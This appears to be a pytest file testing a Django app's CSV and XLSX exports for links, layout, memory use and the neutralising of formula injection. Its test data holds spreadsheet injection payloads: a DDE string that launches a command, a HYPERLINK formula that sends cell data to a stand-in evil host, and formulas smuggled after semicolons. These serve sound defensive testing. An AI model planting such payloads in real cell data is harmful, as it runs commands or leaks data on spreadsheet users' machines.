"""Error log and audit exports: XLSX (XlsxWriter constant_memory: keys, links that show in every
viewer, a frozen and filterable header, sized columns) and CSV (streamed); 50,000 rows stay within
a memory bound, and 100,000 XLSX rows take no more memory than 10,000."""
import csv
import io
import re
import tempfile
import tracemalloc

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reviewapp.models import ErrorLogEntry
from reviewapp.services.errorlog import error_log_add
from reviewapp.services.exports import safe_cell
from tests.factories import AssetFactory, ReviewItemFactory, SourceFactory, UserFactory


@pytest.fixture
def admin(db):
    return UserFactory(role="admin", username="boss")


def _csv(resp):
    text = b"".join(resp.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_and_xlsx_have_keys_and_absolute_links(client, admin):
    item = ReviewItemFactory()
    e1 = error_log_add(actor=admin, asset=item.asset, category="wrong_id", note="=HYPERLINK(\"http://evil\")")
    lone = AssetFactory(key="loose/C0009.jpg")
    error_log_add(actor=admin, asset=lone, category="not_in_canonical")
    client.force_login(admin)

    r = client.get(reverse("errorlog-list"), {"format": "csv"})
    assert r.status_code == 200 and r.streaming
    rows = _csv(r)
    by_key = {row["key"]: row for row in rows}
    assert by_key[item.asset.key]["link"] == "http://testserver" + reverse("review-item", args=[item.pk])
    assert by_key["loose/C0009.jpg"]["link"] == "http://testserver" + reverse("asset-detail", args=[lone.pk])
    assert by_key[item.asset.key]["note"].startswith("'=")  # formula neutralised
    assert by_key[item.asset.key]["category"] == "Wrong ID"

    r = client.get(reverse("errorlog-list"), {"format": "xlsx", "category": "wrong_id"})
    assert r.status_code == 200
    data = b"".join(r.streaming_content)
    ws = load_workbook(io.BytesIO(data)).active
    values = list(ws.values)
    assert values[0][:5] == ("id", "logged_at", "category", "source", "key")
    assert len(values) == 2 and values[1][0] == e1.pk and values[1][4] == item.asset.key
    url = "http://testserver" + reverse("review-item", args=[item.pk])
    assert values[1][-1] == f'=HYPERLINK("{url}","{url}")'  # a clickable link in Excel/LibreOffice
    # the formula's cached value: what a viewer that does not calculate shows
    cached = load_workbook(io.BytesIO(data), data_only=True).active
    assert list(cached.values)[1][-1] == url


def test_xlsx_opens_with_a_frozen_filterable_header_and_sized_columns(tmp_path):
    from reviewapp.services.exports import xlsx_write

    long_note = "a note that is quite a lot longer than its header"
    rows = [[1, "=cmd|' /C calc'!A0", long_note, "http://testserver/review/1/"],
            [2, "C0002", "short", "http://testserver/review/2/"]]
    path = xlsx_write(["id", "key", "note", "link"], rows, title="Error log", link_column=3)
    try:
        wb = load_workbook(path)
        ws = wb.active
        assert ws.title == "Error log"
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == "A1:D3"
        assert ws["A1"].font.b and ws["D1"].font.b
        widths = {c: ws.column_dimensions[c].width for c in "ABCD"}
        assert widths["C"] > widths["B"] > widths["A"] and widths["C"] >= len(long_note)
        assert ws["B2"].value == "'=cmd|' /C calc'!A0" and ws["B2"].data_type == "s"  # text, never a formula
        assert ws["D2"].value == '=HYPERLINK("http://testserver/review/1/","http://testserver/review/1/")'
        assert load_workbook(path, data_only=True).active["D3"].value == "http://testserver/review/2/"
    finally:
        import os

        os.unlink(path)


@pytest.mark.parametrize("good_rows", [1, 300])  # fails while sizing the columns, and while streaming
def test_an_xlsx_that_fails_part_way_leaves_no_temp_file_behind(tmp_path, monkeypatch, good_rows):
    from reviewapp.services.exports import xlsx_write

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows():
        for i in range(good_rows):
            yield [i, f"C{i:04d}"]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError, match="went away"):
        xlsx_write(["id", "key"], rows())
    assert list(tmp_path.iterdir()) == []


XLSX_MEMORY_PROBE = """
import resource, sys
from reviewapp.services.exports import xlsx_write
n = int(sys.argv[1])
rows = ([i, "2026-12-01 06:00", "Cleanup corrupt", "cleanup", f"box{i // 1000}/C{i:07d}.tif", "canon",
         f"C{i:07d}.tif", f"note {i}", "curator1", "", f"http://127.0.0.1:8000/review/{i}/"] for i in range(n))
path = xlsx_write([f"h{c}" for c in range(11)], rows, title="Error log", link_column=10)
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, path)
"""


def test_100000_xlsx_rows_take_no_more_memory_than_10000(tmp_path):
    """Peak RSS of a fresh process writing N rows: constant memory means 100k ≈ 10k."""
    import os
    import subprocess
    import sys

    from tests.conftest import ROOT

    peaks = {}
    for n in (10_000, 100_000):
        out = subprocess.run([sys.executable, "-c", XLSX_MEMORY_PROBE, str(n)], cwd=ROOT, capture_output=True,
                             text=True, timeout=300, env={**os.environ, "DJANGO_SETTINGS_MODULE": "reviewapp.settings_test"})
        assert out.returncode == 0, out.stderr
        kb, path = out.stdout.split()
        peaks[n] = int(kb) * 1024
        assert os.path.getsize(path) > n * 40
        os.unlink(path)
    growth = peaks[100_000] - peaks[10_000]
    print(f"XLSX peak RSS: 10k rows {peaks[10_000] / 1e6:.1f} MB, 100k rows {peaks[100_000] / 1e6:.1f} MB")
    assert growth < 20 * 1024 * 1024, f"100k rows took {growth / 1e6:.1f} MB more than 10k"


def test_exports_are_admin_only(client, db):
    cur = UserFactory(role="curator", username="cur")
    client.force_login(cur)
    assert client.get(reverse("errorlog-list"), {"format": "csv"}).status_code == 403
    assert client.get(reverse("audit-list"), {"format": "csv"}).status_code == 403


def test_safe_cell_neutralises_formulas():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@x") == "'@x" and safe_cell("C0001") == "C0001"
    assert safe_cell(None) == ""


def test_50000_rows_export_streams_within_a_memory_bound(client, admin, settings):
    import time

    from reviewapp.models import Asset

    settings.EXPORT_INLINE_ROWS = 100_000  # this measures the inline (streamed) export
    t0 = time.time()
    source = SourceFactory(name="bulk")
    Asset.objects.bulk_create(
        [Asset(source=source, key=f"box{i // 1000}/C{i:06d}.tif", name=f"C{i:06d}.tif", size=1000 + i, etag=f"e{i}")
         for i in range(50_000)],
        batch_size=5000,
    )
    ids = list(Asset.objects.filter(source=source).values_list("pk", flat=True))
    ErrorLogEntry.objects.bulk_create(
        [ErrorLogEntry(asset_id=pk, category="cleanup_corrupt", note=f"note {pk}", created_by=admin) for pk in ids],
        batch_size=5000,
    )
    client.force_login(admin)
    limit = 100 * 1024 * 1024
    print(f"setup {time.time() - t0:.1f}s")
    t0 = time.time()

    tracemalloc.start()
    try:
        r = client.get(reverse("errorlog-list"), {"format": "csv"})
        lines = 0
        for chunk in r.streaming_content:
            lines += chunk.count(b"\n")
        _, csv_peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    print(f"csv {time.time() - t0:.1f}s")
    t0 = time.time()

    # XLSX: openpyxl allocates per cell, which tracemalloc slows ~5x; on Linux the kernel's RSS
    # high-water mark (reset through /proc/self/clear_refs) measures the same peak for free.
    hwm = _rss_peak_meter()
    if hwm is None:
        tracemalloc.start()
    try:
        start = hwm() if hwm else None
        r = client.get(reverse("errorlog-list"), {"format": "xlsx"})
        size = sum(len(c) for c in r.streaming_content)
        xlsx_peak = (hwm() - start) if hwm else tracemalloc.get_traced_memory()[1]
    finally:
        if hwm is None:
            tracemalloc.stop()
    print(f"xlsx {time.time() - t0:.1f}s")
    assert lines == 50_001
    assert size > 400_000
    assert csv_peak < limit, f"CSV export peaked at {csv_peak / 1e6:.1f} MB"
    assert xlsx_peak < limit, f"XLSX export peaked at {xlsx_peak / 1e6:.1f} MB"
    print(f"50k rows: CSV peak {csv_peak / 1e6:.1f} MB (tracemalloc), XLSX peak {xlsx_peak / 1e6:.1f} MB "
          f"({'RSS high-water mark' if hwm else 'tracemalloc'}), XLSX {size / 1e6:.1f} MB")


def _rss_peak_meter():
    """Reset the process's RSS high-water mark and return a function reading it (bytes), or None
    where /proc does not allow it. Measured from the RSS at reset, it bounds the extra memory."""
    import re

    try:
        with open("/proc/self/clear_refs", "w") as f:
            f.write("5")
        with open("/proc/self/status") as f:
            re.search(r"VmHWM:\s+(\d+)", f.read()).group(1)
    except (OSError, AttributeError):
        return None

    def read():
        with open("/proc/self/status") as f:
            return int(re.search(r"VmHWM:\s+(\d+)", f.read()).group(1)) * 1024

    return read


# --- every export, one neutralising rule -----------------------------------------------------

# Written out here, not imported: the test must not share the rule it checks.
EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", " =1+1",
        "\tx", "\uff1d1+1", "see;=1+1;", "ok; @SUM(1)"]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _would_run(cell) -> bool:
    """Whether any piece of the cell runs once Excel splits it at a `;`, tab or line break (what
    it does in locales whose list separator is `;`)."""
    return isinstance(cell, str) and any(
        piece.lstrip(" ").startswith(STARTS) for piece in [cell] + re.split(r"[;\t\r\n]", cell)[1:])


def _assert_inert(rows, *, formulas_allowed=0):
    """No data cell a spreadsheet would evaluate, except the app's own links; every EVIL value is
    present (neutralised), so a writer that drops the data cannot pass."""
    cells = [c for row in rows for c in row]
    runnable = [c for c in cells if _would_run(c)]
    assert all(c.startswith("=HYPERLINK(") for c in runnable), runnable
    assert len(runnable) <= formulas_allowed
    return cells


@pytest.fixture
def evil_world(db, tmp_path):
    """Rows whose every outside string (source and user names, keys, notes, reasons, name-list
    lines) is a formula."""
    from reviewapp import models as m
    from tests.factories import CandidateFactory

    cur = UserFactory(role="curator", username="=cur")
    boss = UserFactory(role="admin", username="@boss")
    canon = SourceFactory(name="+canon", role=m.Source.Role.CANONICAL)
    clean = SourceFactory(name="-clean", role=m.Source.Role.CLEANUP)
    items = []
    for i, evil in enumerate(EVIL):
        cand = CandidateFactory(cleanup_asset=AssetFactory(source=clean, key=f"{evil}{i}", name=evil),
                                match_asset=AssetFactory(source=canon, key=f"{evil}k{i}"))
        items.append(ReviewItemFactory(best_candidate=cand))
    plan = m.DeletionPlan.objects.create(created_by=boss, source=clean)
    for i, item in enumerate(items):
        d = m.Decision.objects.create(review_item=item, asset=item.asset, candidate=item.best_candidate,
                                      action=m.Decision.Action.LOG_ERROR, actor=cur, note=EVIL[i])
        m.ErrorLogEntry.objects.create(asset=item.asset, category="wrong_id", note=EVIL[i], created_by=cur, decision=d)
        di = m.DeletionItem.objects.create(plan=plan, decision=d, asset=item.asset,
                                           kept_asset=item.best_candidate.match_asset, etag_at_decision=EVIL[i],
                                           kept_etag_at_decision=EVIL[i], size=10, reason=EVIL[i])
        m.AuditEntry.objects.create(action="quarantine", item=di, source_name=EVIL[i], key=EVIL[i], etag=EVIL[i],
                                    kept_source_name=EVIL[i], kept_key=EVIL[i], reason=EVIL[i], approved_by=boss)
    nl = m.NameList.objects.create(source=clean, title="box", requested=len(EVIL), not_found=len(EVIL))
    for i, evil in enumerate(EVIL):
        m.NameListEntry.objects.create(namelist=nl, line=i + 1, raw=evil, normalised=evil, status="not_found")
    return {"boss": boss, "plan": plan, "namelist": nl, "items": items}


def _csv_rows(data):
    text = (data if isinstance(data, str) else data.decode("utf-8")).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    return rows[1:]


def _body(resp):
    assert resp.status_code == 200, resp.status_code
    return b"".join(resp.streaming_content) if resp.streaming else resp.content


def test_every_csv_export_neutralises_every_data_cell(client, evil_world):
    from tests.conftest import api_client_for

    boss, plan, nl = evil_world["boss"], evil_world["plan"], evil_world["namelist"]
    client.force_login(boss)
    api = api_client_for(boss)
    exports = {
        "plan (UI)": client.get(reverse("deletion-plan-csv", args=[plan.pk])),
        "audit (UI)": client.get(reverse("audit-list"), {"format": "csv"}),
        "error log (UI)": client.get(reverse("errorlog-list"), {"format": "csv"}),
        "error log (API)": api.get("/api/v1/error-log/export-csv/"),
        "misses (UI)": client.get(reverse("namelist-misses", args=[nl.pk])),
        "misses (API)": api.get(f"/api/v1/namelists/{nl.pk}/misses/"),
    }
    for name, resp in exports.items():
        rows = _csv_rows(_body(resp))
        assert rows, name
        cells = _assert_inert(rows)
        for evil in EVIL:
            # the data is there, made inert (apostrophes aside)
            assert any(evil.strip().replace("'", "") in c.replace("'", "") for c in cells), (name, evil)


def test_namelist_command_misses_are_neutralised_and_upload_again_as_the_same_names(evil_world, tmp_path):
    from django.core.management import call_command

    from reviewapp.models import NameList

    names = tmp_path / "names.txt"
    wanted = {e + " (not here)" for e in EVIL if e.strip() == e}
    names.write_text("\n".join(sorted(wanted)), encoding="utf-8")
    misses = tmp_path / "misses.csv"
    call_command("doppel_namelist", "--misses", str(misses), "--", "-clean", str(names), stdout=io.StringIO())
    rows = _csv_rows(misses.read_text(encoding="utf-8"))
    _assert_inert(rows)
    assert {r[1] for r in rows} == {safe_cell(e) for e in wanted} != wanted
    # the misses file, fixed and uploaded again, names the same things (the mark comes off)
    call_command("doppel_namelist", "--", "-clean", str(misses), stdout=io.StringIO())
    again = NameList.objects.order_by("-pk").first()
    assert set(again.entries.values_list("raw", flat=True)) == wanted


def test_every_xlsx_export_neutralises_cells_and_escapes_its_own_links(client, evil_world):
    from tests.conftest import api_client_for

    boss = evil_world["boss"]
    client.force_login(boss)
    api = api_client_for(boss)
    for resp in (client.get(reverse("errorlog-list"), {"format": "xlsx"}),
                 api.get("/api/v1/error-log/export-xlsx/")):
        ws = load_workbook(io.BytesIO(_body(resp))).active
        rows = list(ws.values)[1:]
        assert len(rows) == len(EVIL)
        _assert_inert(rows, formulas_allowed=len(EVIL))  # the links are the only formulas
        notes = [r[7] for r in rows]
        assert sorted(notes) == sorted(safe_cell(e) for e in EVIL)
        assert all(str(r[-1]).startswith('=HYPERLINK("http://testserver/') for r in rows)


def test_hyperlink_formula_escapes_quotes_in_the_data_it_carries():
    from openpyxl import Workbook

    from reviewapp.services.exports import hyperlink_formula

    url = 'http://x/"&HYPERLINK("http://evil")&"'
    f = hyperlink_formula(url)
    # the data sits in string literals only: every quote inside is doubled, so the literal
    # never ends early and nothing after it becomes a formula of its own
    inner = f[len('=HYPERLINK("'):-len('")')]
    first, second = inner.split('","')
    assert first == second == url.replace('"', '""')
    assert hyperlink_formula("http://x/" + "a" * 300).startswith("http://x/")  # too long: plain text
    assert hyperlink_formula("=" + "a" * 300).startswith("'=")
    wb = Workbook()
    wb.active.append([f])
    assert wb.active["A1"].data_type == "f"


def test_a_formula_after_a_semicolon_or_tab_cannot_run_where_excel_splits_the_cell_there():
    assert safe_cell("see;=1+1;") == "see;'=1+1;"
    assert safe_cell("a\t@b") == "a\t'@b" and safe_cell("x; +1") == "x; '+1"
    assert safe_cell("=a;-b") == "'=a;'-b"
    assert safe_cell("plain;text, -1") == "plain;text, -1"  # a comma is held together by CSV quoting


def test_cell_text_takes_off_every_apostrophe_safe_cell_added():
    from reviewapp.services.exports import cell_text

    for original in ("see;=1+1;", "=a;-b", "a\t@b", "plain;text", "C0001"):
        assert cell_text(safe_cell(original)) == original


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    assert safe_cell(-2) == -2 and safe_cell(0.5) == 0.5
    assert safe_cell("box-1/C0001-a.jpg") == "box-1/C0001-a.jpg"
    assert safe_cell(" @x") == "' @x" and safe_cell("\uff1dSUM(1)") == "'\uff1dSUM(1)"


def test_reingest_manifest_csv_is_neutralised(db):
    from reviewapp import models as m
    from reviewapp.services.reingest import _manifest

    asset = AssetFactory(key="=HYPERLINK(1)", source=SourceFactory(name="@src"))
    item = m.ReingestItem.objects.create(asset=asset, reason="+more pixels", created_by=UserFactory(role="curator"),
                                         target_key="-k")
    manifest_json, manifest_csv = _manifest(item)
    rows = _csv_rows(manifest_csv.decode())
    _assert_inert(rows)
    assert "'=HYPERLINK(1)" in rows[0]
    import json

    assert json.loads(manifest_json)["items"][0]["original_key"] == "=HYPERLINK(1)"  # exact for machines
